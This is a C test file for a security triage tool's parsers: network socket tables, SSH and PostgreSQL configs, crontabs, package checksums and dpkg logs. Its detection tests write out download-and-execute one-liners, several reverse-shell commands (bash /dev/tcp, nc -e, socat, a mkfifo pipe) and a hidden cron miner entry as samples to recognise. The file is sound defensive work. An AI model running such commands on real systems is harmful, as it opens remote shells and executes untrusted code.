/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The triage parsers on recorded input (tests/fixtures/triage). */
#include "test-fs.h"
#include "triage/dpkg.h"
#include "triage/parse.h"

static char *fixture(const char *name) {
        _cleanup_free_ char *p = xasprintf("%s/%s", TRIAGE_FIXTURES, name);
        char *text = NULL;
        ASSERT_EQ_INT(read_full_file(p, &text, NULL, 1 << 20), 0);
        return text ? text : xstrdup("");
}

/* The Nth line of TEXT (0-based), in a new string. */
static char *line_of(const char *text, unsigned n) {
        const char *s = text;
        for (unsigned i = 0; i < n && s; i++) {
                s = strchr(s, '\n');
                if (s)
                        s++;
        }
        if (!s)
                return xstrdup("");
        return strndup(s, strcspn(s, "\n"));
}

TEST(proc_net_tcp) {
        _cleanup_free_ char *t = fixture("proc-net-tcp");
        _cleanup_free_ char *h = line_of(t, 0), *l0 = line_of(t, 1), *l1 = line_of(t, 2), *l2 = line_of(t, 3);
        struct net_row r;
        ASSERT_EQ_INT(proc_net_parse_line(h, false, &r), -ENODATA);
        ASSERT_EQ_INT(proc_net_parse_line(l0, false, &r), 0);
        ASSERT_STREQ(r.local, "0.0.0.0");
        ASSERT_EQ_INT(r.local_port, 5432);
        ASSERT_EQ_INT(r.state, 0x0A);
        ASSERT_EQ_INT(r.uid, 114);
        ASSERT_EQ_U64(r.inode, 41234);
        ASSERT_EQ_INT(proc_net_parse_line(l1, false, &r), 0);
        ASSERT_STREQ(r.local, "127.0.0.1");
        ASSERT_EQ_INT(r.local_port, 6379);
        ASSERT_TRUE(address_is_loopback(r.local));
        ASSERT_EQ_INT(proc_net_parse_line(l2, false, &r), 0);
        ASSERT_STREQ(r.local, "10.0.2.15");
        ASSERT_STREQ(r.remote, "192.168.0.42");
        ASSERT_EQ_INT(r.remote_port, 3389);
        ASSERT_EQ_INT(r.state, 1);
        ASSERT_EQ_INT(r.uid, 1000);
        /* An IPv4 row read as IPv6 has the wrong width. */
        ASSERT_EQ_INT(proc_net_parse_line(l0, true, &r), -EINVAL);
        ASSERT_EQ_INT(proc_net_parse_line("   0: 00000000:1538", false, &r), -EINVAL);
        ASSERT_EQ_INT(proc_net_parse_line("", false, &r), -ENODATA);
}

TEST(proc_net_tcp6) {
        _cleanup_free_ char *t = fixture("proc-net-tcp6");
        _cleanup_free_ char *l0 = line_of(t, 1), *l1 = line_of(t, 2), *l2 = line_of(t, 3);
        struct net_row r;
        ASSERT_EQ_INT(proc_net_parse_line(l0, true, &r), 0);
        ASSERT_STREQ(r.local, "::");
        ASSERT_EQ_INT(r.local_port, 3306);
        ASSERT_TRUE(!address_is_loopback(r.local));
        ASSERT_EQ_INT(proc_net_parse_line(l1, true, &r), 0);
        ASSERT_STREQ(r.local, "::1");
        ASSERT_EQ_INT(r.local_port, 9090);
        ASSERT_TRUE(address_is_loopback(r.local));
        ASSERT_EQ_INT(proc_net_parse_line(l2, true, &r), 0);
        ASSERT_STREQ(r.local, "::ffff:127.0.0.1");
        ASSERT_TRUE(address_is_loopback(r.local));
        ASSERT_EQ_INT(r.local_port, 22);
}

TEST(proc_net_unix) {
        _cleanup_free_ char *t = fixture("proc-net-unix");
        _cleanup_free_ char *h = line_of(t, 0), *l0 = line_of(t, 1), *l1 = line_of(t, 2), *l2 = line_of(t, 3);
        struct unix_row r;
        ASSERT_EQ_INT(proc_net_unix_parse_line(h, &r), -ENODATA);
        ASSERT_EQ_INT(proc_net_unix_parse_line(l0, &r), 0);
        ASSERT_TRUE(r.listening);
        ASSERT_STREQ(r.path, "/run/docker.sock");
        ASSERT_EQ_U64(r.inode, 18122);
        ASSERT_EQ_INT(proc_net_unix_parse_line(l1, &r), 0);
        ASSERT_TRUE(!r.listening);
        ASSERT_STREQ(r.path, "");
        ASSERT_EQ_INT(proc_net_unix_parse_line(l2, &r), 0);
        ASSERT_STREQ(r.path, "@/tmp/.X11-unix/X0");
        ASSERT_EQ_INT(proc_net_unix_parse_line("0000: 1 2", &r), -EINVAL);
}

static int fixture_include(struct sshd_config *c, const char *pattern, void *userdata) {
        int *calls = userdata;
        (*calls)++;
        ASSERT_STREQ(pattern, "sshd_config.d/*.conf");
        _cleanup_free_ char *t = fixture("sshd_config.d/10-local.conf");
        return sshd_config_parse(c, t);
}

TEST(sshd_config_first_value_wins) {
        _cleanup_free_ char *t = fixture("sshd_config");
        int calls = 0;
        struct sshd_config c = { .include = fixture_include, .userdata = &calls };
        ASSERT_EQ_INT(sshd_config_parse(&c, t), 0);
        ASSERT_EQ_INT(calls, 1);
        /* The Include comes first, so its value beats the main file's "no". */
        ASSERT_STREQ(sshd_config_get(&c, "PermitRootLogin"), "yes");
        ASSERT_STREQ(sshd_config_get(&c, "banner"), "\"/etc/issue net\"");
        ASSERT_STREQ(sshd_config_get(&c, "port"), "22");
        ASSERT_STREQ(sshd_config_get(&c, "authorizedkeysfile"), ".ssh/authorized_keys .ssh/authorized_keys2");
        /* Commented out, and only inside a Match block: not effective. */
        ASSERT_TRUE(sshd_config_get(&c, "passwordauthentication") == NULL);
        ASSERT_TRUE(sshd_config_get(&c, "permitemptypasswords") == NULL);
        /* After "Match all", settings are global again; '=' separates too. */
        ASSERT_STREQ(sshd_config_get(&c, "x11forwarding"), "yes");
        sshd_config_done(&c);
}

static int include_self(struct sshd_config *c, const char *pattern, void *userdata) {
        (void) pattern;
        (void) userdata;
        return sshd_config_parse(c, "Include again\n");
}

TEST(sshd_config_include_loop_ends) {
        struct sshd_config c = { .include = include_self };
        ASSERT_EQ_INT(sshd_config_parse(&c, "Include loop\nPort 2222\n"), 0);
        ASSERT_STREQ(sshd_config_get(&c, "port"), "2222");
        sshd_config_done(&c);
}

TEST(pg_hba) {
        _cleanup_free_ char *t = fixture("pg_hba.conf");
        struct hba_rule r;
        _cleanup_free_ char *l0 = line_of(t, 0), *l1 = line_of(t, 1), *l2 = line_of(t, 2), *l3 = line_of(t, 3),
                            *l5 = line_of(t, 5), *l6 = line_of(t, 6), *l7 = line_of(t, 7), *l8 = line_of(t, 8);
        ASSERT_EQ_INT(pg_hba_parse_line(l0, &r), -ENODATA);
        ASSERT_EQ_INT(pg_hba_parse_line(l1, &r), 0);
        ASSERT_STREQ(r.type, "local");
        ASSERT_STREQ(r.method, "peer");
        ASSERT_STREQ(r.address, "");
        ASSERT_EQ_INT(pg_hba_parse_line(l2, &r), 0);
        ASSERT_STREQ(r.method, "trust");
        ASSERT_EQ_INT(pg_hba_parse_line(l3, &r), 0);
        ASSERT_STREQ(r.address, "127.0.0.1/32");
        ASSERT_STREQ(r.method, "scram-sha-256");
        ASSERT_EQ_INT(pg_hba_parse_line(l5, &r), 0);
        ASSERT_STREQ(r.database, "my db");
        ASSERT_STREQ(r.address, "0.0.0.0/0");
        ASSERT_STREQ(r.method, "trust");
        ASSERT_EQ_INT(pg_hba_parse_line(l6, &r), 0);
        ASSERT_STREQ(r.type, "hostssl");
        ASSERT_STREQ(r.address, "10.0.0.0 255.0.0.0");
        ASSERT_STREQ(r.method, "md5");
        ASSERT_EQ_INT(pg_hba_parse_line(l7, &r), -EINVAL);
        ASSERT_EQ_INT(pg_hba_parse_line(l8, &r), -ENODATA);
        ASSERT_EQ_INT(pg_hba_parse_line("hots all all trust", &r), -EINVAL);
}

TEST(conf_get) {
        const char *pg = "#listen_addresses = 'localhost'\nlisten_addresses = '*'\t# what IP address(es)\nport=5433\n";
        _cleanup_free_ char *a = conf_get(pg, NULL, "listen_addresses", '='), *p = conf_get(pg, NULL, "port", '=');
        ASSERT_STREQ(a, "*");
        ASSERT_STREQ(p, "5433");
        const char *my = "[client]\nbind-address = 10.1.1.1\n[mysqld]\nbind-address\t= 0.0.0.0\n[mysqldump]\nquick\n";
        _cleanup_free_ char *b = conf_get(my, "mysqld", "bind-address", '=');
        _cleanup_free_ char *none = conf_get(my, "mysqldump", "bind-address", '=');
        ASSERT_STREQ(b, "0.0.0.0");
        ASSERT_TRUE(none == NULL);
        const char *redis = "bind 127.0.0.1 -::1\nprotected-mode yes\nbind 0.0.0.0\nprotected-mode no\n";
        _cleanup_free_ char *rb = conf_get(redis, NULL, "bind", ' '),
                            *pm = conf_get(redis, NULL, "protected-mode", ' ');
        ASSERT_STREQ(rb, "0.0.0.0");
        ASSERT_STREQ(pm, "no");
}

TEST(cron_lines) {
        _cleanup_free_ char *t = fixture("crontab");
        struct cron_entry e;
        _cleanup_free_ char *l0 = line_of(t, 0), *l1 = line_of(t, 1), *l2 = line_of(t, 2), *l3 = line_of(t, 3),
                            *l4 = line_of(t, 4), *l5 = line_of(t, 5), *l6 = line_of(t, 6);
        ASSERT_EQ_INT(cron_parse_line(l0, true, &e), -ENODATA);
        ASSERT_EQ_INT(cron_parse_line(l1, true, &e), -ENODATA);
        ASSERT_EQ_INT(cron_parse_line(l2, true, &e), -ENODATA);
        ASSERT_EQ_INT(cron_parse_line(l3, true, &e), 0);
        ASSERT_STREQ(e.schedule, "17 * * * *");
        ASSERT_STREQ(e.user, "root");
        ASSERT_STREQ(e.command, "cd / && run-parts --report /etc/cron.hourly");
        ASSERT_EQ_INT(cron_parse_line(l4, true, &e), 0);
        ASSERT_STREQ(e.schedule, "@reboot");
        ASSERT_STREQ(e.command, "/tmp/.x/kworker -o pool.example:3333");
        ASSERT_EQ_INT(cron_parse_line(l5, true, &e), 0);
        ASSERT_TRUE(text_is_download_exec(e.command));
        ASSERT_EQ_INT(cron_parse_line(l6, true, &e), -EINVAL);
        /* A user crontab has no user field: the command starts right after the schedule. */
        ASSERT_EQ_INT(cron_parse_line("*/5 * * * * /tmp/x arg", false, &e), 0);
        ASSERT_STREQ(e.user, "");
        ASSERT_STREQ(e.command, "/tmp/x arg");
}

TEST(md5sums) {
        _cleanup_free_ char *t = fixture("md5sums");
        char md5[33];
        const char *path;
        _cleanup_free_ char *l0 = line_of(t, 0), *l1 = line_of(t, 1), *l2 = line_of(t, 2), *l3 = line_of(t, 3);
        ASSERT_EQ_INT(md5sums_parse_line(l0, md5, &path), 0);
        ASSERT_STREQ(md5, "d41d8cd98f00b204e9800998ecf8427e");
        ASSERT_STREQ(path, "usr/share/doc/empty");
        ASSERT_EQ_INT(md5sums_parse_line(l1, md5, &path), 0);
        ASSERT_STREQ(path, "usr/bin/with space");
        ASSERT_EQ_INT(md5sums_parse_line(l2, md5, &path), -EINVAL);
        ASSERT_EQ_INT(md5sums_parse_line(l3, md5, &path), -EINVAL);
        ASSERT_EQ_INT(md5sums_parse_line("", md5, &path), -ENODATA);
}

TEST(authorized_keys_fingerprints_match_ssh_keygen) {
        _cleanup_free_ char *t = fixture("authorized_keys");
        struct authkey k;
        _cleanup_free_ char *l0 = line_of(t, 0), *l1 = line_of(t, 1), *l2 = line_of(t, 2), *l3 = line_of(t, 3);
        ASSERT_EQ_INT(authkey_parse_line(l0, &k), -ENODATA);
        /* The expected values are what `ssh-keygen -lf` printed for these keys. */
        ASSERT_EQ_INT(authkey_parse_line(l1, &k), 0);
        ASSERT_STREQ(k.type, "ssh-ed25519");
        ASSERT_STREQ(k.fingerprint, "SHA256:64eUvIWUMGT00QHZZfKTJoIgVWR3yne6gmThJhrNPiI");
        ASSERT_STREQ(k.comment, "ops@fixture");
        ASSERT_TRUE(!k.has_options);
        ASSERT_EQ_INT(authkey_parse_line(l2, &k), 0);
        ASSERT_STREQ(k.type, "ssh-rsa");
        ASSERT_STREQ(k.fingerprint, "SHA256:nMEDNOEMqI+Wtaad6ESQT8e/4taEV7BNW2fUnQTcnsA");
        ASSERT_TRUE(k.has_options);
        ASSERT_EQ_INT(authkey_parse_line(l3, &k), -EINVAL);
        /* A blob whose embedded type differs from the line's is refused. */
        ASSERT_EQ_INT(
                authkey_parse_line("ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIM6p152UPEyRkauluCwSbGhSJYZsamAH8Q5snCga7g06", &k),
                -EINVAL);
}

TEST(download_exec_and_reverse_shell_patterns) {
        static const char *const dl[] = {
                "curl -fsSL https://example.org/install.sh | sh",
                "wget -qO- http://1.2.3.4/x | sudo bash",
                "+ curl -s http://h/a.sh | /bin/bash -s -- --yes",
                "bash -c \"$(curl -fsSL https://h/i.sh)\"",
                "bash <(curl -s https://h/x)",
                "wget http://h/m -O /tmp/m; chmod +x /tmp/m",
                "curl https://h/p.py | python3",
        };
        static const char *const benign[] = {
                "curl -fsSL https://example.org/key.asc | gpg --dearmor -o /usr/share/keyrings/k.gpg",
                "wget https://example.org/file.tar.gz && tar xf file.tar.gz",
                "echo curl is a tool | shasum",
                "shellcheck scripts/*.sh",
        };
        for (size_t i = 0; i < ELEMENTSOF(dl); i++)
                if (!text_is_download_exec(dl[i]))
                        tap_fail_("not recognised as download-exec: %s", dl[i]);
        for (size_t i = 0; i < ELEMENTSOF(benign); i++)
                if (text_is_download_exec(benign[i]) || text_is_reverse_shell(benign[i]))
                        tap_fail_("false alarm: %s", benign[i]);
        static const char *const rs[] = {
                "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
                "nc -e /bin/sh 127.0.0.1 4444",
                "socat tcp-connect:127.0.0.1:4444 exec:/bin/sh,pty",
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 127.0.0.1 4444 >/tmp/f",
                "python3 -c 'import socket,subprocess,os;s=socket.socket()'",
        };
        for (size_t i = 0; i < ELEMENTSOF(rs); i++)
                if (!text_is_reverse_shell(rs[i]))
                        tap_fail_("not recognised as a reverse shell: %s", rs[i]);
        ASSERT_TRUE(!text_is_reverse_shell("nc -z 127.0.0.1 5432"));
}

TEST(dpkg_log_lines) {
        struct dpkg_log_line l;
        ASSERT_EQ_INT(dpkg_log_parse_line("2024-03-05 14:22:01 upgrade openssh-server:amd64 1:9.2p1-1 1:9.2p1-2", &l),
                      0);
        ASSERT_EQ_INT(l.year, 2024);
        ASSERT_EQ_INT(l.mon, 3);
        ASSERT_EQ_INT(l.sec, 1);
        ASSERT_STREQ(l.pkg, "openssh-server");
        ASSERT_TRUE(l.unpack);
        ASSERT_EQ_INT(dpkg_log_parse_line("2024-03-05 14:22:02 status unpacked libc6:i386 2.36-9", &l), 0);
        ASSERT_STREQ(l.pkg, "libc6");
        ASSERT_TRUE(l.unpack);
        ASSERT_EQ_INT(dpkg_log_parse_line("2024-03-05 14:22:03 status installed libc6:i386 2.36-9", &l), 0);
        ASSERT_TRUE(!l.unpack);
        ASSERT_EQ_INT(dpkg_log_parse_line("2024-03-05 14:22:03 configure tool:all 1.0 <none>", &l), 0);
        ASSERT_STREQ(l.pkg, "tool");
        ASSERT_TRUE(!l.unpack);
        ASSERT_EQ_INT(dpkg_log_parse_line("2024-03-05 14:22:00 startup archives unpack", &l), 0);
        ASSERT_STREQ(l.pkg, "");
        ASSERT_TRUE(!l.unpack);
        ASSERT_EQ_INT(dpkg_log_parse_line("2024-03-05 14:22:00 conffile /etc/ssh/sshd_config keep", &l), 0);
        ASSERT_STREQ(l.pkg, "");
        ASSERT_EQ_INT(dpkg_log_parse_line("", &l), -ENODATA);
        ASSERT_EQ_INT(dpkg_log_parse_line("2024-13-05 14:22:00 install x:amd64 <none> 1", &l), -EINVAL);
        ASSERT_EQ_INT(dpkg_log_parse_line("garbage", &l), -EINVAL);
        ASSERT_EQ_INT(dpkg_log_parse_line("2024-03-05 14:22:00", &l), -EINVAL);
}

TEST(dpkg_record_judges_checksum_files_by_the_log) {
        setenv("TZ", "UTC", 1);
        tzset();
        struct dpkg_record r;
        dpkg_record_init(&r);
        /* Nothing logged: nothing to judge by. */
        int64_t ref = 0;
        ASSERT_TRUE(dpkg_info_tampered(&r, "openssh-server", true, 2000000000, &ref) == NULL);
        char log[] = "2024-01-01 00:00:00 startup archives unpack\n"
                     "2024-01-01 00:00:00 install openssh-server:amd64 <none> 1\n"
                     "2024-01-01 00:00:01 status unpacked openssh-server:amd64 1\n"
                     "2024-01-01 00:00:05 configure openssh-server:amd64 1 <none>\n"
                     "not a line\n"
                     "2024-02-01 00:00:00 trigproc man-db:amd64 2 <none>\n";
        dpkg_record_add_log(&r, log);
        ASSERT_EQ_INT(r.first, 1704067200);
        ASSERT_EQ_INT(r.last, 1706745600);
        /* .md5sums: by the package's last unpack (00:00:01), configure and triggers do not count. */
        ASSERT_TRUE(dpkg_info_tampered(&r, "openssh-server", true, 1704067201, &ref) == NULL);
        ASSERT_EQ_INT(ref, 1704067201);
        ASSERT_TRUE(dpkg_info_tampered(&r, "openssh-server", true, 1704067201 + 10, &ref) != NULL);
        /* A package the log's span never saw unpacked cannot have new checksums. */
        ASSERT_TRUE(dpkg_info_tampered(&r, "bash", true, 1704067200 - 100, &ref) == NULL);
        ASSERT_TRUE(dpkg_info_tampered(&r, "bash", true, 1704067200 + 100, &ref) != NULL);
        /* .list: after the last dpkg run of any package. */
        ASSERT_TRUE(dpkg_info_tampered(&r, "bash", false, 1706745600, &ref) == NULL);
        ASSERT_TRUE(dpkg_info_tampered(&r, "bash", false, 1706745600 + 10, &ref) != NULL);
        dpkg_record_done(&r);
        unsetenv("TZ");
        tzset();
}
